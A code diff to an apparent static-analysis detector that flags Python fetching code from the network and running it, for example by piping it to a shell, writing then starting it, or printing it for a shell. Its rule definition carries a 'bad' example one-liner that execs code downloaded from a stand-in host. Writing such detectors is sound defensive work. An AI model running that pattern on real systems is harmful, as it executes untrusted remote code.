@@ -5,6 +5,7 @@ from __future__ import annotations
 import re
 from collections.abc import Iterator
 
+from antivenom.pycode.commands import is_shell, opens_shell
 from antivenom.pycode.evaluate.values import taint_of, text_of
 from antivenom.pycode.facts import Fact
 from antivenom.pycode.rules.kit import (
@@ -20,6 +21,7 @@ from antivenom.pycode.rules.kit import (
     shown,
     taint_of_role,
     whence,
+    words_of,
 )  # fmt: skip
 from antivenom.pycode.rules.paths import is_url
 
@@ -40,7 +42,8 @@ def check(case: Case) -> Iterator[Seen]:
             taint_of_role(fact, "code", "data", "path"), "fetch", "download", "receive", "accept", "resolve", "connect"
         )
         if sources:
-            yield _seen(case, sources[0], fact, _RUNS[fact.kind])
+            named = next((one for one in sources if whence(case, one)), sources[0])
+            yield _seen(case, named, fact, _RUNS[fact.kind])
         elif fact.kind == "execute":
             yield from _from_share(fact)
             yield from _from_downloader(fact)
@@ -48,7 +51,13 @@ def check(case: Case) -> Iterator[Seen]:
         sources = origins(commanding(fact), "fetch", "download")
         if sources and not fact.looped:
             yield _seen(case, sources[0], fact, "hands it to the system as a command")
+    for fact, process, value in case.fed():
+        sources = origins(taint_of(value), "fetch", "download")
+        words = words_of(process)
+        if sources and words and (opens_shell(words) is not None or _python(words)):
+            yield _seen(case, sources[0], fact, f"feeds it to {words[0]}")
     yield from _written_then_run(case)
+    yield from _shown_to_a_shell(case)
     yield from _fed(case)
     yield from of_traits(case, "download_execute")
 
@@ -79,6 +88,22 @@ def _seen(case: Case, source: Fact, fact: Fact, runs: str) -> Seen:
     return Seen(90, f"It fetches code from {url or 'the network'} and {runs}.", (source, fact))
 
 
+def _siblings(case: Case) -> list[list[str]]:
+    """The other commands of the same line, where a shell runs them all."""
+    found = case.found
+    return [list(words) for words in found.siblings] if found is not None and found.kind != "embedded" else []
+
+
+def _shown_to_a_shell(case: Case) -> Iterator[Seen]:
+    """Python that prints what it fetched, beside a shell on the same line that reads it."""
+    if not any(opens_shell(words) is not None for words in _siblings(case)):
+        return
+    for fact in case.of("show"):
+        sources = origins(fact.taint, "fetch", "receive", "download")
+        if sources:
+            yield _seen(case, sources[0], fact, "prints it for a shell to run")
+
+
 def _written_then_run(case: Case) -> Iterator[Seen]:
     """A download that lands in a file, and the file is started."""
     for write in case.of("download", "write", "copy stream"):
@@ -91,9 +116,32 @@ def _written_then_run(case: Case) -> Iterator[Seen]:
             continue
         path = path_role(write) or text_of(write.role("target")) or ""
         place = taint_of(write.owner) | {write} | taint_of_role(write, "path", "target")
+        for words in _siblings(case):
+            if _starts(words, path):
+                yield _seen(case, sources[0], write, f"writes it to {path}, which the same line then runs")
+                break
         for run in case.of("process", "import file", "library", "execute", "import path"):
             if run is not write and _runs(run, path, place & frozenset(case.of("temporary", "download"))):
                 yield _seen(case, sources[0], run, f"writes it to {path or 'a file'} and starts that")
+
+
+def _python(words: list[str]) -> bool:
+    """An interpreter that reads its program from standard input."""
+    return words[0].replace("\\", "/").rsplit("/", 1)[-1].startswith(("python", "pypy")) and all(
+        word.startswith("-") for word in words[1:]
+    )
+
+
+_STARTERS = frozenset({"chmod", "exec", "nohup", "setsid", "sudo", "start", "open", "source", "."})
+
+
+def _starts(words: list[str], path: str) -> bool:
+    """Whether a command of the line starts the file, or makes it one that can be started."""
+    if len(path) < 4 or not words:
+        return False
+    first = words[0]
+    named = [word for word in words[:4] if word in (path, f"./{path}")]
+    return bool(named) and (first in named or is_shell(first) or first in _STARTERS or first.startswith("python"))
 
 
 def _runs(run: Fact, path: str, place: frozenset[Fact]) -> bool:
@@ -133,7 +181,7 @@ RULE = Rule(
     bad="import urllib.request; exec(urllib.request.urlopen('http://192.0.2.10/p.py').read())",
     good="json.loads(urllib.request.urlopen('http://localhost:8080/health').read())",
     references=("https://attack.mitre.org/techniques/T1105/",),
-    wakes=frozenset({*_RUNS, "download", "write", "copy stream", "process",
+    wakes=frozenset({*_RUNS, "download", "write", "copy stream", "process", "show",
                      "found:stdin", "found:script", "found:inline", "found:module", "found:interactive", "found:install"}),
     check=check,
 )  # fmt: skip
